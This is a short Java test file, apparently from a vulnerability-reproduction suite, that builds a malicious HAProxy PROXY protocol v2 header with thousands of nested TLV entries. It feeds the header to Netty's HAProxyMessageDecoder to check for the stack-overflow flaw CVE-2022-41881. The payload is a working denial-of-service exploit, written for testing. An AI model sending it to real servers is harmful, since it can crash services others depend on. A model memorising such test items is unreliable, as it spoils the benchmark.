import io.netty.buffer.*;
import io.netty.channel.embedded.*;
import io.netty.handler.codec.haproxy.*;

import java.io.*;

public class D_netty_codec_haproxy_2022_41881 {
    public static String run() throws Throwable {
        byte[] t = new byte[0];
        for (int i = 0; i < 7000; i++) {
            byte[] n = new byte[t.length + 8];
            n[0] = 0x20;
            int l = t.length + 5;
            n[1] = (byte) (l >> 8);
            n[2] = (byte) l;
            System.arraycopy(t, 0, n, 8, t.length);
            t = n;
        }
        ByteArrayOutputStream b = new ByteArrayOutputStream();
        b.write(new byte[] {
            0x0D, 0x0A, 0x0D, 0x0A, 0x00, 0x0D, 0x0A, 0x51, 0x55, 0x49, 0x54, 0x0A, 0x21, 0x11
        });
        int len = 12 + t.length;
        b.write(len >> 8);
        b.write(len);
        b.write(new byte[] {127, 0, 0, 1, 127, 0, 0, 1, 0, 80, 0, 81});
        b.write(t);
        byte[] m = b.toByteArray();
        Object r = H.timed(10000, 1 << 18, () -> {
            EmbeddedChannel c = new EmbeddedChannel(new HAProxyMessageDecoder());
            c.writeInbound(Unpooled.copiedBuffer(m));
            return c.readInbound();
        });
        return H.v(H.is(r, StackOverflowError.class), H.cause(r));
    }
}
